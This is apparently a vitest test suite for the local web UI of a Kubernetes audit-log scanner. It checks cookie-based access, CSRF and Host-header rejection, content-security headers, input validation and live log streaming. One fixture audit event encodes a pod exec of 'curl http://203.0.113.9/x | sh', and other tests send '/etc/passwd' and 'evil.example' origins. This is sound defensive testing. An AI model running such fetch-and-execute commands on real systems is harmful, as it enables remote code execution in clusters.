import {
  appendFileSync,
  copyFileSync,
  existsSync,
  mkdtempSync,
  readFileSync,
  writeFileSync,
} from 'node:fs';
import { request } from 'node:http';
import { platform, tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { openBrowser } from '../../../src/cli/ui/open-browser.ts';
import { QUESTIONS, textAt, type Row } from '../../../src/page/live/question-columns.ts';
import { ROOT, runCli, startCli, type RunningCli } from '../run-cli.ts';

const SAMPLE = join(ROOT, 'samples/exec-session.log');
const LOG = join(mkdtempSync(join(tmpdir(), 'ui-')), 'audit.log');

let running: RunningCli;
let url: URL;
let cookie = '';
beforeAll(async () => {
  copyFileSync(SAMPLE, LOG);
  running = startCli(['ui', LOG]);
  await running.shows('?token=');
  url = new URL(running.output.stdout.trim());
  const entered = await fetch(url, { redirect: 'manual' });
  cookie = entered.headers.get('set-cookie')!.split(';')[0]!;
});
afterAll(async () => {
  running.child.kill('SIGINT');
  await running.done;
});

const get = (path: string, headers: Record<string, string> = {}): Promise<Response> =>
  fetch(new URL(path, url), { headers: { cookie, ...headers } });
const ask = (question: unknown, headers: Record<string, string> = {}): Promise<Response> =>
  fetch(new URL('/ask', url), {
    method: 'POST',
    headers: { cookie, 'content-type': 'application/json', ...headers },
    body: typeof question === 'string' ? question : JSON.stringify(question),
  });

/** `fetch` sets the host itself. */
function statusFor(headers: Record<string, string>): Promise<number> {
  return new Promise((resolve, reject) => {
    const { hostname, port } = url;
    const sent = request({ hostname, port, path: '/ask', method: 'POST', headers }, (response) => {
      response.resume();
      resolve(response.statusCode!);
    });
    sent.on('error', reject);
    sent.end('{}');
  });
}

describe('the server of the page', () => {
  test('listens on this machine alone, and hides its token behind a cookie', async () => {
    expect(url.hostname).toBe('127.0.0.1');
    expect(url.searchParams.get('token')!.length).toBeGreaterThanOrEqual(32);
    const entered = await fetch(url, { redirect: 'manual' });
    expect(entered.status).toBe(303);
    expect(entered.headers.get('location')).toBe('/');
    expect(entered.headers.get('set-cookie')).toMatch(/HttpOnly; SameSite=Strict; Path=\/$/);
  });

  test.each(['/', '/live.js', '/live.css', '/fields', '/case', '/follow', '/ask'])(
    'says nothing at %s without the cookie',
    async (path) => {
      const answer = await fetch(new URL(path, url));
      expect(answer.status).toBe(401);
      expect(await answer.text()).toBe('open the address that k8s-audit ui printed\n');
    },
  );

  test('says nothing to other names and other pages', async () => {
    const known = { cookie, 'content-type': 'application/json' };
    expect(await statusFor({ ...known, host: `evil.example:${url.port}` })).toBe(421);
    expect(await statusFor({ ...known, origin: 'https://evil.example' })).toBe(403);
    expect(await statusFor({ ...known, 'sec-fetch-site': 'cross-site' })).toBe(403);
    expect(await statusFor(known)).toBe(400);
  });

  test('lets the page load nothing from elsewhere', async () => {
    for (const path of ['/', '/live.js', '/nowhere']) {
      const { headers } = await get(path);
      expect(headers.get('content-security-policy')).toMatch(
        /^default-src 'none'; script-src 'self'; .*frame-ancestors 'none'$/,
      );
      expect(headers.get('x-content-type-options')).toBe('nosniff');
      expect(headers.get('cache-control')).toBe('no-store');
    }
    expect((await get('/nowhere')).status).toBe(404);
    expect(await (await get('/')).text()).not.toMatch(/https?:/);
  });

  test('answers questions as the command line does', async () => {
    const answer = await ask({
      tool: 'findings',
      arguments: { where: 'ka.user.name = mallory@example.com' },
    });
    expect(answer.status).toBe(200);
    const { rows, total } = (await answer.json()) as { rows: { rule: string }[]; total: number };
    const args = [
      'scan',
      SAMPLE,
      '--where',
      'ka.user.name = mallory@example.com',
      '--no-fold',
      '-f',
      'ndjson',
      '-q',
    ];
    const lines = (await runCli({ args })).stdout.trim().split('\n');
    expect(total).toBe(lines.length);
    expect(rows.map(({ rule }) => rule)).toEqual(
      lines.slice(0, rows.length).map((line) => (JSON.parse(line) as { rule: string }).rule),
    );
  });

  test.each<[string, unknown, string]>([
    ['no JSON', '{', 'the question is no JSON'],
    ['a list', [], 'a question is an object'],
    ['no tool', { tool: 'scan' }, 'a question has a tool and its arguments'],
    ['a file', { tool: 'findings', arguments: { rules: '/etc/passwd' } }, "no argument 'rules'"],
    ['too much', 'x'.repeat(1_200_000), 'too long'],
  ])('refuses %s in one line', async (_, question, message) => {
    const answer = await ask(question);
    expect(answer.status).toBe(400);
    expect(await answer.text()).toMatch(new RegExp(`^.*${message}.*\\n$`));
  });

  test('refuses a wrong condition with a mark below the place, and nothing unseen', async () => {
    const where = 'ka.nope = "\u202e\u001b"';
    const answer = await ask({ tool: 'activity', arguments: { where } });
    expect(answer.status).toBe(400);
    expect(await answer.text()).toMatch(
      /^--where is no condition: .*ka\.nope\n {2}ka\.nope = "\\u202e\\x1b"\n {2}\^\n$/,
    );
  });

  test('refuses what a form could send', async () => {
    const answer = await ask({ tool: 'findings' }, { 'content-type': 'text/plain' });
    expect(answer.status).toBe(415);
  });

  test('changes nothing for other pages', async () => {
    const change = async (path: string, headers: Record<string, string>): Promise<number> => {
      const answer = await fetch(new URL(`/change/${path}`, url), {
        method: 'POST',
        headers: { 'content-type': 'application/json', ...headers },
        body: '{}',
      });
      return answer.status;
    };
    const own = { cookie, origin: url.origin };
    for (const path of ['write', 'diff', 'effect', 'switches']) {
      expect(await change(path, { cookie })).toBe(403);
      expect(await change(path, { ...own, origin: 'https://evil.example' })).toBe(403);
      expect(await change(path, { origin: url.origin })).toBe(401);
      expect(await change(path, { ...own, 'content-type': 'text/plain' })).toBe(415);
    }
    expect(await change('switches', own)).toBe(200);
    expect(await change('write', own)).toBe(400);
    expect(await change('nothing', own)).toBe(404);
    expect((await get('/change/switches', own)).status).toBe(404);
  });

  test('hands out the case file', async () => {
    const answer = await get('/case');
    expect(answer.headers.get('content-security-policy')).toContain("frame-ancestors 'none'");
    const text = await answer.text();
    expect(text).toContain('<!DOCTYPE html>');
    expect(text.trimEnd().endsWith('</html>')).toBe(true);
    expect(text).toContain('data-part=');
  });

  test.each(Object.entries(QUESTIONS))('has a text for each column of %s', async (tool, shown) => {
    const { rows } = (await (await ask({ tool })).json()) as { rows: Row[] };
    for (const [name, ...path] of shown.columns) {
      const texts = rows.map((row) => textAt(row, path));
      expect({ name, texts: texts.filter((text) => text !== '').length }).not.toEqual({
        name,
        texts: 0,
      });
    }
  });

  test('says why a log is not followed', async () => {
    const wrong = await get('/follow?where=ka.nope+%3D+1');
    expect(await wrong.text()).toMatch(/^: following\n\nevent: problem\ndata: ".*ka\.nope.*"\n\n$/);
    const file = await get('/follow?rules=/etc/passwd');
    expect(file.status).toBe(400);
    expect(await file.text()).toMatch(/^findings has no argument 'rules'.*\n$/);
  });

  test('sends what is added to a log', async () => {
    const answer = await get('/follow?min_severity=high');
    expect(answer.headers.get('content-type')).toBe('text/event-stream');
    const reader = answer.body!.pipeThrough(new TextDecoderStream()).getReader();
    let text = '';
    const until = async (count: number): Promise<void> => {
      while (text.split('\ndata: ').length - 1 < count) {
        const { value, done } = await reader.read();
        if (done) throw new Error(`ended: ${text}`);
        text += value;
      }
    };
    await until(1);
    const before = text.split('\ndata: ').length - 1;
    const line = `{"kind":"Event","apiVersion":"audit.k8s.io/v1","level":"Request","auditID":"new-1","stage":"ResponseComplete","verb":"create","requestURI":"/api/v1/namespaces/shop/pods/web/exec?command=sh&command=-c&command=curl+http%3A%2F%2F203.0.113.9%2Fx+%7C+sh","user":{"username":"eve"},"objectRef":{"resource":"pods","subresource":"exec","namespace":"shop","name":"web"},"responseStatus":{"code":101},"requestReceivedTimestamp":"2026-03-05T00:00:00.000000Z","stageTimestamp":"2026-03-05T00:00:01.000000Z"}`;
    appendFileSync(LOG, `${line}\n`);
    await until(before + 1);
    expect(text).toContain('"new-1"');
    await reader.cancel();
  });

  test('ends with Ctrl-C, whoever follows', async () => {
    const other = startCli(['ui', LOG]);
    await other.shows('?token=');
    const address = other.output.stdout.trim();
    const entered = await fetch(address, { redirect: 'manual' });
    const known = { cookie: entered.headers.get('set-cookie')!.split(';')[0]! };
    const following = await fetch(new URL('/follow', address), { headers: known });
    const reader = following.body!.getReader();
    await reader.read();
    other.child.kill('SIGINT');
    expect(await other.done).toMatchObject({ code: 0, stderr: '' });
    await reader.cancel().catch(() => undefined);
  });
});

test.skipIf(platform() === 'win32')('opens the browser at an address for it alone', async () => {
  const folder = mkdtempSync(join(tmpdir(), 'ui-open-'));
  const opened = join(folder, 'opened');
  const program = join(folder, platform() === 'darwin' ? 'open' : 'xdg-open');
  writeFileSync(program, `#!/bin/sh\nprintf %s "$1" > '${opened}'\n`, { mode: 0o755 });
  const one = startCli(['ui', SAMPLE, '--open'], { PATH: folder });
  await one.shows('?token=');
  await expect.poll(() => existsSync(opened) && readFileSync(opened, 'utf8')).toContain('token=');
  const address = readFileSync(opened, 'utf8');
  expect(address).not.toBe(one.output.stdout.trim());
  expect((await fetch(address, { redirect: 'manual' })).status).toBe(303);
  expect((await fetch(address, { redirect: 'manual' })).status).toBe(401);
  expect((await fetch(one.output.stdout.trim(), { redirect: 'manual' })).status).toBe(303);
  one.child.kill('SIGINT');
  expect(await one.done).toMatchObject({ code: 0, stderr: '' });
});

test('says why no browser was opened', async () => {
  const other = platform() === 'win32' ? 'darwin' : 'win32';
  expect(await openBrowser('http://127.0.0.1:1/', other)).toMatch(/^(?:rundll32|open): ENOENT$/);
});

test.each([
  [['nowhere.log'], 'nowhere.log: no such file or directory'],
  [['-'], 'standard input is read once, and a page asks again (name files)'],
  [[SAMPLE, '-r', 'nowhere.yaml'], 'cannot read rules nowhere.yaml: no such file or directory'],
])('%j is refused before a page is there', async (args, message) => {
  const { stdout, stderr, code } = await runCli({ args: ['ui', ...args] });
  expect({ stdout, stderr, code }).toEqual({
    stdout: '',
    stderr: `k8s-audit: ${message}\n`,
    code: 2,
  });
});
